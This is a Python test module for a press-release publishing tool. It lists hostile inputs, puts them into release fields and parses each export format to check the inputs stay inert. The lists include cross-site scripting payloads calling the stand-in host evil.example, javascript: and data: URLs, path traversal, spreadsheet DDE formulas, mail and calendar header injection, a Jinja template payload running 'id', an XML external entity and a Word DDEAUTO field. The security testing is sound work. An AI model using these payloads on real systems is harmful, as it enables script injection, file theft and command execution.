"""Hostile texts, the fields they are put into, and parsers that judge whether an export keeps them inert."""

from __future__ import annotations

import csv
import email
import email.policy
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache
from typing import Any

import openpyxl
from lxml import etree
from lxml import html as lxml_html

from pressctl.release import moments
from pressctl.release.model import Contact, Event, Kind, Media, Release, Status

HOST = "evil.example"
"""Where every payload leads: a request to it, or a script that makes one, is a breach."""
RUN = f"new Image().src=`http://{HOST}/ran`"
HTML = {
    "script": f"<script>{RUN}</script>",
    "script of elsewhere": f"<script src=//{HOST}/a.js></script>",
    "script broken up": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script in capitals": f"<SCRIPT/x>{RUN}</SCRIPT >",
    "break out of an attribute": f'"><img src=x onerror="{RUN}">',
    "break out of a quoted one": f"'><svg onload='{RUN}'>",
    "break out of a title": f"</title></textarea></style><script>{RUN}</script>",
    "break out of a comment": f"--><script>{RUN}</script><!--",
    "break out of structured data": f'</script><script>{RUN}</script>{{"a":"',
    "break out of a JSON text": f'"}};{RUN};{{"',
    "break out of CDATA": f"]]><script>{RUN}</script><![CDATA[",
    "event handler": f"<b onmouseover={RUN}>b</b><details open ontoggle={RUN}>d</details>",
    "focus": f"<input autofocus onfocus={RUN}><a tabindex=0 autofocus onfocus={RUN}>f</a>",
    "picture": f'<img src="http://{HOST}/p.png"><img src=x onerror={RUN}>',
    "picture without strokes": f"![a](https:{HOST}/p.png) ![b](http:\\\\{HOST}/p.png) ![c](//{HOST}/p.png)",
    "source set": f'<img srcset="http://{HOST}/p.png 1x"><picture><source srcset="//{HOST}/p.png"></picture>',
    "SVG": f'<svg><script>{RUN}</script><a xlink:href="javascript:{RUN}">x</a><use href="http://{HOST}/#a"/></svg>',
    "MathML": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    "frame": f'<iframe src="http://{HOST}/"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "object": f'<object data="http://{HOST}/"></object><embed src="http://{HOST}/">',
    "base": f'<base href="http://{HOST}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=http://{HOST}/">',
    "link": f'<link rel="stylesheet" href="http://{HOST}/a.css"><link rel=prefetch href="//{HOST}/">',
    "form": f'<form action="http://{HOST}/"><button formaction="javascript:{RUN}">x</button></form>',
    "style": f'<style>@import "http://{HOST}/a.css";</style><p style="background:url(http://{HOST}/b)">p</p>',
    "CSS": f"}} body {{ background: url(http://{HOST}/c) }} @import '//{HOST}/d';",
    "template": f"<template><script>{RUN}</script></template><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "video": f'<video src="http://{HOST}/v" poster="//{HOST}/p" autoplay></video><audio src=//{HOST}/a autoplay></audio>',
    "NUL in a tag": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x\0 onerror={RUN}>",
    "full-width": f"＜script＞{RUN}＜/script＞",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "Jinja": "{{ 7*191 }}{% include '/etc/passwd' %}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
}
ADDRESSES = {
    "javascript": f"javascript:{RUN}",
    "javascript in capitals": f"JaVaScRiPt:{RUN}",
    "javascript with a tab": f"java\tscript:{RUN}",
    "javascript behind a control": f"\x01javascript:{RUN}",
    "javascript behind a space": f" javascript:{RUN}",
    "javascript in entities": f"&#106;avascript&colon;{RUN}",
    "javascript in percents": f"%6Aavascript:{RUN}",
    "javascript after a comment": f"javascript://example.org/%0a{RUN}",
    "vbscript": "vbscript:msgbox(1)",
    "data": f"data:text/html,<script>{RUN}</script>",
    "data in base 64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data of an SVG": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    "file": "file:///etc/passwd",
    "view-source": f"view-source:http://{HOST}/",
}
PLACES = {
    "path upwards": "../../../../tmp/evil",
    "path upwards in percents": "..%2f..%2f..%2fevil",
    "path upwards on Windows": "..\\..\\..\\evil",
    "absolute path": "/etc/evil",
    "drive": "C:\\evil",
    "stream": "evil.txt::$DATA",
    "device": "CON",
    "NUL in a path": "a\0.png/../../evil",
}
CELLS = {
    "formula behind spaces": "\u00a0 \ufeff =1+1",
    "formula": '=HYPERLINK("http://evil.example/"&A1,"x")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "cell break-out": 'x",=1+1,"y\n=2+2',
    "full-width formula": "＝1+1",
}
LINES = {
    "mail header": f"x\r\nBcc: victim@{HOST}\r\n\r\n<script>{RUN}</script>",
    "mail header with LF": f"x\nBcc: victim@{HOST}\nContent-Type: text/html\n\nbody",
    "encoded word": "=?utf-8?q?x=0D=0ABcc:_victim=40evil.example?=",
    "calendar line": f"x\r\nATTACH:http://{HOST}/\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM",
    "calendar end": "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:y",
    "front matter": "x\n---\nembargo: none\n---\nstatus: released",
}
DOCUMENTS = {
    "Typst": '#read("/etc/passwd") #import "@preview/evil:0.1.0": * #eval("1") $ x $ \\ #link("javascript:x")[y]',
    "Typst break-out": '"] #panic("evil") [ "',
    "XML entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;&lt;',
    "XML control": "a\x00\x01\x08\x0b\x0c\x1f\ufffe\uffffbc",
    "Word field": f'{{ INCLUDEPICTURE "http://{HOST}/p" }} DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    "escape": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://evil.example\x07x\x1b]8;;\x07 \x9b31m",
    "bidi": "a\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "backspace": "rm -rf\b\b\b\b\b\bsafe  \x7f",
    "GitHub command": "x\n::error file=a::evil\n::set-env name=PATH::evil",
}
PAYLOADS = HTML | ADDRESSES | PLACES | CELLS | LINES | DOCUMENTS

BASE = Release(
    path="releases/a.en.md", id="plant", headline="Acme opens a plant", subheadline="In Lyon", summary="A plant",
    language="en", date=moments.read("2026-03-01"), dateline="Lyon", kind=Kind.MEDIA_ADVISORY, status=Status.RELEASED,
    contacts=(Contact("Ana Silva", "Officer", "Acme", "CH", "press@acme.example", ("+41 22 730 81 11",), hours="9 to 5"),),
    boilerplate="Acme builds pumps.", subjects=("Water",), tickers=("NYSE: ACM",), slug="plant", end_mark="###",
    media=(Media(url="https://acme.example/plan.pdf", alt="A plan", caption="The plan", credit="Eva"),),
    event=Event(moments.read("2026-03-03 10:00 UTC"), moments.read("2026-03-03 11:00 UTC"), "Room", "https://acme.example/e"),
    corrects="The day", extra={"office": "Lyon"}, body="Acme has opened a plant.\n",
)  # fmt: skip
Put = Callable[[Release, str], Release]


def _contact(name: str) -> Put:
    def put(release: Release, text: str) -> Release:
        value: Any = (text,) if name in {"phone", "languages"} else text
        return replace(release, contacts=(replace(release.contacts[0], **{name: value}),))

    return put


def _media(name: str) -> Put:
    return lambda release, text: replace(
        release, media=(replace(release.media[0], **({"url": ""} if name == "file" else {}), **{name: text}),)
    )


def _event(name: str) -> Put:
    def put(release: Release, text: str) -> Release:
        assert release.event
        value: Any = text
        return replace(release, event=replace(release.event, **{name: value}))

    return put


def _text(name: str) -> Put:
    def put(release: Release, text: str) -> Release:
        value: Any = text
        return replace(release, **{name: value})

    return put


def _extra(name: str) -> Put:
    return lambda release, text: replace(release, extra={**release.extra, name: text})


def _target(text: str) -> str:
    return text.replace("\n", "%0A").replace("\r", "%0D").replace(" ", "%20").replace(")", "%29").replace("(", "%28")


FIELDS: dict[str, Put] = {
    **{name: _text(name) for name in ("headline", "subheadline", "summary", "body", "slug", "id", "dateline", "boilerplate",
                                      "corrects", "end_mark", "source_language", "path")},
    **{f"contact {name}": _contact(name) for name in ("name", "role", "organisation", "email", "phone", "hours", "country",
                                                      "languages")},
    **{f"media {name}": _media(name) for name in ("file", "url", "alt", "caption", "credit")},
    **{f"event {name}": _event(name) for name in ("place", "url")},
    "subjects": lambda release, text: replace(release, subjects=(text, "Water")),
    "tickers": lambda release, text: replace(release, tickers=(text,)),
    **{f"key {name}": _extra(name) for name in ("uri", "canonical", "version", "office", "copyright", "author")},
    "link": lambda release, text: replace(release, body=f"Acme [opens]({_target(text)}) it.\n"),
    "picture": lambda release, text: replace(release, body=f"Acme ![opens]({_target(text)}) it.\n"),
    "link title": lambda release, text: replace(release, body=f'Acme [opens](https://acme.example "{text}") it.\n'),
    "definition": lambda release, text: replace(release, body=f"Acme [opens][a] it.\n\n[a]: <{_target(text)}>\n"),
    "autolink": lambda release, text: replace(release, body=f"Acme <{_target(text)}> it.\n"),
    "href": lambda release, text: replace(release, body=f'Acme <a href="{text}">opens</a> <img src="{text}"> it.\n'),
    "table": lambda release, text: replace(release, body=f"| a |\n|---|\n| {text} |\n"),
    "code": lambda release, text: replace(release, body=f"```{text}\n{text}\n```\n\n`{text}`\n"),
}  # fmt: skip
SETTINGS = ("name", "acronym", "url")
"""Values of the newsroom's settings that stand in exports."""

TAGS = frozenset(
    "html head meta title link style script body header main footer nav section article aside div span p br hr h1 h2 h3 h4 h5 h6 "
    "em strong i b u s mark del ins sub sup code pre blockquote q cite abbr time address ul ol li dl dt dd a img figure figcaption "
    "bdi bdo bdi bdo table thead tbody tr th td caption form label input button small noscript base picture search".split()
)
URLS = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "longdesc", "xlink:href"}
)
FETCHED = frozenset({"img", "script", "link", "input", "source", "video", "audio", "iframe", "embed", "object"})
SCHEMES = frozenset({"http", "https", "mailto", "tel", ""})
OWN = ("https://acme.example",)
SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.-]*):")
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
Breaches = Iterator[str]


def scheme(address: str) -> str:
    """Return the scheme of an address as a browser reads it, in small letters."""
    read = re.sub(r"^[\x00-\x20]+|[\t\n\r]", "", address)
    match = SCHEME.match(read)
    return match[1].lower() if match else ""


def is_foreign(address: str) -> bool:
    """Return whether a browser that shows the page would fetch this from elsewhere."""
    read = re.sub(r"^[\x00-\x20]+|[\t\n\r]", "", address).replace("\\", "/")
    return (read.startswith("//") or bool(SCHEME.match(read))) and not read.startswith(("data:,", *OWN))


def html(text: str) -> Breaches:
    """Yield what in a page would run, leave the page, or is no element of ours."""
    if not text.strip():
        return
    for element in lxml_html.document_fromstring(text.replace("\0", "\ufffd")).iter():
        if not isinstance(element.tag, str):
            continue
        if element.tag not in TAGS:
            yield f"element {element.tag}"
        if element.tag == "script":
            yield from _script(element)
        if element.tag == "style" and HOST in (element.text or ""):
            yield "styles of the text"
        for name, value in element.attrib.items():
            yield from _attribute(element, str(name), str(value))


def _script(element: Any) -> Breaches:
    if element.get("type") == "application/ld+json":
        json.loads(element.text)
    elif not element.get("src") or is_foreign(element.get("src")):
        yield f"script {element.text}"


def _attribute(element: Any, name: str, value: str) -> Breaches:
    if name.startswith("on") or name in {"srcset", "srcdoc", "style", "autofocus"}:
        yield f"attribute {name} of {element.tag}"
    if name == "http-equiv" and value.lower() not in {"content-security-policy", "x-ua-compatible"}:
        yield "http-equiv"
    if name in URLS and scheme(value) not in SCHEMES and value != "data:,":
        yield f"{element.tag} {name} {value[:80]}"
    is_fetched = element.tag in FETCHED and (
        element.tag != "link" or element.get("rel") in {"stylesheet", "icon", "prefetch"}
    )
    if name in URLS and is_fetched and is_foreign(value):
        yield f"{element.tag} fetches {value[:80]}"


def xml(data: bytes) -> Breaches:
    """Yield what in an XML document is no element of ours, or leads to a script; the HTML in feeds is judged, too."""
    tree = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True, huge_tree=False))
    if b"<!DOCTYPE" in data[:200]:
        yield "a document type"
    for element in tree.iter():
        if not isinstance(element.tag, str):
            yield "a processing instruction or comment"
            continue
        name = etree.QName(element).localname
        if name.lower() in {"script", "iframe", "object", "style", "svg", "embed"}:
            yield f"element {name}"
        for attribute, given in element.attrib.items():
            key, value = etree.QName(attribute).localname, str(given)
            is_address = key in {"href", "src", "url", "uri", "source"} and value != "data:,"
            if key.startswith("on") or (is_address and scheme(value) not in {*SCHEMES, "urn", "tag"}):
                yield f"{name} {key} {value[:80]}"
        if name in {"link", "url", "icon", "logo"} and scheme(element.text or "") not in SCHEMES:
            yield f"{name} {element.text}"
        if name in {"encoded", "content"} and element.text:
            yield from html(element.text)


def no_control(text: str, *, is_shown: bool = False) -> Breaches:
    """Yield the characters that steer a terminal, and on one those that turn the direction of a line."""
    bad = {character for character in text if unicodedata.category(character) == "Cc" and character not in "\n\t\r"}
    yield from (f"control {character!a}" for character in sorted(bad))
    if is_shown:
        yield from (f"direction {match[0]!a}" for match in BIDI.finditer(text))


def cells(data: bytes) -> Breaches:
    """Yield the cells of a table of text that a spreadsheet would calculate, and rows that nobody wrote."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    if len({len(row) for row in rows}) != 1 or len(rows) != 2:
        yield f"{len(rows)} rows"
    yield from (
        f"cell {cell[:40]}"
        for row in rows
        for cell in row
        if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))
    )


def workbook(data: bytes) -> Breaches:
    """Yield the formulas and links of a workbook."""
    for row in openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows():
        for cell in row:
            if cell.data_type == "f":
                yield f"formula {cell.value}"
            if cell.hyperlink and scheme(cell.hyperlink.target or "") not in SCHEMES:
                yield f"link {cell.hyperlink.target}"


HEADERS = frozenset("subject from to reply-to date message-id mime-version content-type content-transfer-encoding "
                    "content-language x-unsent content-disposition content-id importance".split())  # fmt: skip


def mail(data: bytes) -> Breaches:
    """Yield the headers that a mail of ours does not have, and what in its page would run."""
    message = email.message_from_bytes(data, policy=email.policy.default)
    for part in message.walk():
        yield from (f"header {name}" for name in dict(part) if name.lower() not in HEADERS)
        yield from (f"defect {defect}" for defect in part.defects)
        for value in part.values():
            yield from no_control(str(value))
            if "\n" in str(value):
                yield "a header of several lines"
        if part.get_content_type() == "text/html":
            yield from html(part.get_content())
        elif part.get_content_type() == "text/plain":
            yield from no_control(part.get_content())
    addresses = [
        each
        for name in ("to", "from", "reply-to", "cc", "bcc")
        for each in (message[name].addresses if message[name] else ())
    ]
    yield from (f"address {each.addr_spec}" for each in addresses if "victim" in each.addr_spec)


LINE = re.compile(r"^(BEGIN|END|VERSION|PRODID|METHOD|CALSCALE|UID|DTSTAMP|DTSTART|DTEND|SUMMARY|DESCRIPTION|LOCATION|URL|STATUS|"
                  r"SEQUENCE|ORGANIZER|CONTACT|TRANSP|CLASS|CATEGORIES|NAME|X-WR-CALNAME|TZID|TZOFFSETFROM|TZOFFSETTO|TZNAME|RRULE|"
                  r"LAST-MODIFIED|CREATED|COMMENT|LANGUAGE|X-[A-Z-]+|TZURL|RDATE)[;:]")  # fmt: skip


def calendar(data: bytes) -> Breaches:
    """Yield the lines of a calendar that ours does not have."""
    lines = re.sub(r"\r\n[ \t]", "", data.decode()).split("\r\n")
    yield from (f"line {line[:60]}" for line in lines if line and not LINE.match(line))
    yield from (f"line break in {line[:60]}" for line in lines if "\n" in line or "\r" in line)
    if lines.count("BEGIN:VEVENT") != 1 or "BEGIN:VALARM" in lines:
        yield "another event or an alarm"
    yield from (line for line in lines if line.startswith("URL") and scheme(line.partition(":")[2]) not in SCHEMES)


def archive(data: bytes) -> Breaches:
    """Yield names that lead out of the folder an archive is opened in, and what in its parts breaches."""
    with zipfile.ZipFile(io.BytesIO(data)) as opened:
        for name in opened.namelist():
            if re.search(r"(^|[\\/])\.\.([\\/]|$)|^[\\/]|\\|^[A-Za-z]:|[\x00-\x1f]", name):
                yield f"name {name}"
            part = opened.read(name)
            if name.endswith(".rels"):
                yield from _relations(part)
            elif name.endswith(".xml"):
                yield from _word(part)
            elif name.endswith(".docx"):
                yield from archive(part)
            elif name.endswith(".pdf"):
                yield from pdf(part)
            elif name.endswith(".txt"):
                yield from no_control(part.decode())
            elif name.endswith(".json"):
                json.loads(part)


def _relations(part: bytes) -> Breaches:
    for each in etree.fromstring(part):
        if each.get("TargetMode") == "External" and (
            scheme(each.get("Target") or "") not in SCHEMES or "hyperlink" not in (each.get("Type") or "")
        ):
            yield f"relation {each.get('Target')}"


@cache
def _word(part: bytes) -> tuple[str, ...]:
    """Return what breaches in a part of a Word file; most parts are the same in every file."""
    return tuple(_commands(part))


def _commands(part: bytes) -> Breaches:
    for element in etree.fromstring(part).iter():
        name = etree.QName(element).localname if isinstance(element.tag, str) else ""
        instruction = (
            (element.text or "")
            if name == "instrText"
            else element.get(f"{{{etree.QName(element).namespace}}}instr", "")
            if name == "fldSimple"
            else ""
        )
        if name in {"altChunk", "object", "control", "script"} or (
            instruction and instruction.split()[:1] not in (["PAGE"], ["NUMPAGES"])
        ):
            yield f"Word {name} {instruction}"


def pdf(data: bytes) -> Breaches:
    """Yield actions of a PDF that run something, and links with a scheme that a reader should not follow."""
    import pikepdf

    with pikepdf.open(io.BytesIO(data)) as opened:
        for each in opened.objects:
            if not isinstance(each, pikepdf.Dictionary | pikepdf.Stream):
                continue
            yield from (
                f"PDF {key}" for key in ("/JS", "/JavaScript", "/Launch", "/EmbeddedFile", "/AA") if key in each
            )
            if each.get("/S") in {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR"}:
                yield f"PDF action {each.get('/S')}"
            if "/URI" in each and scheme(str(each["/URI"])) not in SCHEMES:
                yield f"PDF link {each['/URI']}"


def script_data(data: bytes) -> Breaches:
    """Yield what is wrong with the index of a site's search: it is a script, and must hold data alone."""
    text = data.decode()
    if not text.startswith("window.pressctlIndex = "):
        return
    yield from ()
    json.loads(text.removeprefix("window.pressctlIndex = ").removesuffix(";\n"))


def judge(name: str, data: bytes) -> list[str]:
    """Return the breaches in a file of an export, judged by a parser of its kind; a parser that fails is one."""
    found: dict[str, Callable[[bytes], Breaches]] = {
        ".html": lambda each: html(each.decode()), ".nitf.xml": xml, ".newsml.xml": xml, ".xml": xml, ".rss": xml, ".atom": xml,
        ".csv": cells, ".xlsx": workbook, ".eml": mail, ".ics": calendar, ".zip": archive, ".docx": archive, ".pdf": pdf,
        ".txt": lambda each: no_control(each.decode()), ".js": script_data, ".jsonld": _json, ".json": _json,
    }  # fmt: skip
    reader = next((found[ending] for ending in sorted(found, key=len, reverse=True) if name.endswith(ending)), None)
    problems = [f"name {name}"] if name.startswith("/") or ".." in re.split(r"[\\/]", name) or "\0" in name else []
    try:
        return problems + list(dict.fromkeys(reader(data))) if reader else problems
    except Exception as error:
        return [*problems, f"{type(error).__name__}: {error}"]


def _json(data: bytes) -> Breaches:
    values = json.loads(data)
    if isinstance(values, dict) and "release" in values:  # a source: the texts as they were written
        return
    for item in values.get("items", ()) if isinstance(values, dict) else ():
        yield from html(item.get("content_html", ""))
    for each in ("url", "mainEntityOfPage", "external_url", "image", "contentUrl", "href"):
        for value in _values(values, each):
            if isinstance(value, str) and scheme(value) not in {*SCHEMES, "urn", "tag"}:
                yield f"{each} {value[:80]}"
    for body in _values(values, "contentHtml"):
        yield from html(str(body))


def _values(values: Any, name: str) -> Iterator[Any]:
    if isinstance(values, dict):
        for key, value in values.items():
            if key == name:
                yield value
            yield from _values(value, name)
    elif isinstance(values, list):
        for value in values:
            yield from _values(value, name)
